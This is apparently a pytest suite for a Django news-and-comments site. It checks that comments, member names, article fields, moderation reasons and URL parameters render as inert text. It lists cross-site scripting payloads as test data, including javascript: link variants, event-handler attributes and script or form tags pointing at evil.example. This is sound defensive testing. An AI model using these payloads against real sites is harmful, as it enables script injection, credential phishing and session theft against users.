"""What people type is words on every page that shows it, whatever it tries to be."""

import re
from collections.abc import Iterator

import pytest
from django.urls import reverse

from accounts.models import User
from board.actions.comments import edit_comment
from board.actions.moderation import remove
from board.models import Article, Comment
from tests.board.views.browsing import browser, preview, send
from tests.board.views.reading import Element, read
from tests.factories import ArticleFactory, MemberFactory, SectionFactory, say

SCRIPT = "<script>alert(1)</script>"
MARKUP = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script src=//evil.example></script>',
    "'\" autofocus onfocus=alert(1) x='",
    "</textarea></title></style></ol><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input type=password>",
    "<style>*{display:none}</style><b style='position:fixed'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>",
    "{{ settings.SECRET_KEY }}{% load x %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e>tpircs/<)1(trela>tpircs<\u2066",
    "x" * 39 + "<",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '[x](https://e.example "\' onmouseover=alert(1)")',
    '[x](https://e.example/" onclick="alert(1))',
    "@<script>alert(1)</script>",
]
BROKEN = [
    "> " * 500 + "deep",
    "**" * 2000 + "x",
    "[" * 2000 + "x",
    "`" * 999,
    "- " * 300 + "x",
    "<div><p><ul><li>" * 200,
    "</li></ol></article></section></main></body></html>",
    "> #1 Alice:\n> </blockquote><script>alert(1)</script>\n\nx",
    "<!--/quote 0--><!--quote 0-->",
    "\u200b\u200d\ufeff x \U000e0041",
    "e" + "\u0301" * 3000,
]
ALLOWED = re.compile(r"(https?://|mailto:|/(?!/)|[#?])", re.IGNORECASE)


def wrongs(page: Element) -> Iterator[str]:
    """All that a page of ours never holds."""
    for element in page.walk():
        if element.tag == "script" and not re.match(r"/static/[\w./-]+\.js$", element.attrs.get("src") or ""):
            yield "a script"
        if element.tag in ("iframe", "object", "embed", "style", "base", "svg", "math", "frame", "applet"):
            yield f"<{element.tag}>"
        if element.tag == "input" and element.attrs.get("type") == "password":
            yield "a field for a password"
        for name, value in element.attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "autofocus", "ping"):
                yield f"{element.tag} {name}"
            if name in ("href", "src", "action", "formaction") and not ALLOWED.match(value or "#"):
                yield f"{name} {value}"
        if element.attrs.get("action", "/").startswith(("http", "//")):
            yield "a form that leads away"


def check(*addresses: str, member: User | None = None) -> None:
    for address in addresses:
        assert (address, list(wrongs(read(browser(member).get(address))))) == (address, [])


def forms(comment: Comment) -> list[str]:
    return [f"/comments/{comment.pk}/{path}" for path in ("history/", "reply/", "quote/", "edit/", "delete/")]


def lists(article: Article) -> list[str]:
    pages = [article.get_absolute_url() + query for query in ("", "?view=flat", "?comment-order=latest")]
    return [*pages, "/", article.section.get_absolute_url()]


def test_comments_are_harmless_wherever_they_are_shown(article: Article, alice: User) -> None:
    for text in (*MARKUP, *LINKS, *BROKEN):
        comment = say(article, alice, f"Well,\n\n{text}")
        edit_comment(comment, alice, f"{text}\n\nSo there.")
    assert Article.objects.get().comment_count == len(MARKUP + LINKS + BROKEN) < 50
    check(*lists(article), "/member/alice/", "/member/alice/?page=2")
    check(*lists(article)[:2], member=alice)


@pytest.mark.parametrize("text", [*MARKUP, *LINKS, *BROKEN])
def test_the_pages_of_one_comment_are_harmless(article: Article, alice: User, text: str) -> None:
    client = browser(alice, htmx=True)
    answer = send(client, article, f"{text}\n\nWell.")
    assert (answer.status_code, list(wrongs(read(answer)))) == (200, [])
    comment = edit_comment(Comment.objects.get(), alice, f"{text}\n\nSo there.")
    check(f"/comments/{comment.pk}/history/")
    for path in ("reply/", "quote/", "edit/"):
        assert list(wrongs(read(client.get(f"/comments/{comment.pk}/{path}")))) == []


def test_previews_are_harmless(article: Article, alice: User) -> None:
    client = browser(alice, htmx=True)
    for text in (*MARKUP, *LINKS, *BROKEN):
        answer = preview(client, article, f"{text}\n\nWell.")
        assert (text, answer.status_code, list(wrongs(read(answer)))) == (text, 200, [])


def test_names_of_members_are_harmless(article: Article, bob: User) -> None:
    for n, name in enumerate(MARKUP):
        member = MemberFactory(name=f"{n}{name}"[:40])
        comment = say(article, member, "Hello.")
        say(article, bob, f"> #{comment.pk} x:\n> Hello.\n\nHello, @{member.name}!", parent=comment)
        check(member.get_absolute_url())
        check(*forms(comment)[:-2], member=bob)
        check(f"/comments/{comment.pk}/edit/", f"/comments/{comment.pk}/delete/", member=member)
    check(*lists(article))
    page = read(browser().get(article.get_absolute_url()))
    assert page.by_id(f"by-{comment.pk}").text == " ".join(member.name.split())


@pytest.mark.parametrize("words", MARKUP)
def test_what_editors_and_moderators_write_is_harmless(alice: User, moderator: User, words: str) -> None:
    section = SectionFactory(name=words[:60], slug="s")
    article = ArticleFactory(
        section=section, headline=words, slug="a", standfirst=words, byline=words, source_copyright=words,
        picture_alt=words, picture_caption=words, body=words,
    )  # fmt: skip
    comment = say(article, alice)
    say(article, alice, parent=comment)
    remove(comment, moderator, reason=words)
    check(
        "/", "/category/s/", article.get_absolute_url(), f"/comments/{comment.pk}/thread/", "/moderation-log/"
    )
    check(reverse("post_comment", args=[article.pk]), member=alice)
    headline = read(browser().get(article.get_absolute_url())).by_id("article").all("h1")[0]
    assert headline.text == " ".join(words.split())


@pytest.mark.parametrize("text", [*MARKUP, *BROKEN[:4], "x" * 200_000])
def test_what_comes_back_in_a_form_is_words(comment: Comment, bob: User, text: str) -> None:
    for client in (browser(bob), browser(bob, held_to_tokens=True)):
        answer = send(client, comment, text, submission=text[:300])
        page = read(answer)
        assert answer.status_code in (403, 422)
        assert list(wrongs(page)) == []
        assert page.all("textarea")[0].typed == text


@pytest.mark.parametrize("words", MARKUP)
def test_a_selection_is_quoted_as_words(comment: Comment, bob: User, words: str) -> None:
    client = browser(bob, htmx=True)
    answer = client.post(reverse("quote", args=[comment.pk]), {"selection": words})
    assert list(wrongs(read(answer))) == []
    send(client, comment, read(answer).all("textarea")[0].typed + "Indeed.")
    check(comment.article.get_absolute_url(), member=bob)


@pytest.mark.parametrize("words", MARKUP)
def test_an_address_says_nothing_to_the_page(comment: Comment, words: str) -> None:
    client, query = browser(), {"comment-order": words, "view": words, "page": words, "next": words}
    for address in (comment.article.get_absolute_url(), "/", "/nothing/", f"/{SCRIPT}/"):
        assert list(wrongs(read(client.get(address, query)))) == []


def test_links_that_people_write_are_not_the_sites_word(article: Article, alice: User) -> None:
    say(article, alice)  # whoever has had nothing published yet waits with a link
    comment = say(article, alice, "See https://example.com/ and [this](http://example.org).")
    page = read(browser().get(article.get_absolute_url())).by_id(f"comment-{comment.pk}")
    outbound = [link for link in page.all("a") if link["href"].startswith("http")]
    assert len(outbound) == 2
    assert {link["rel"] for link in outbound} == {"nofollow ugc noopener"}
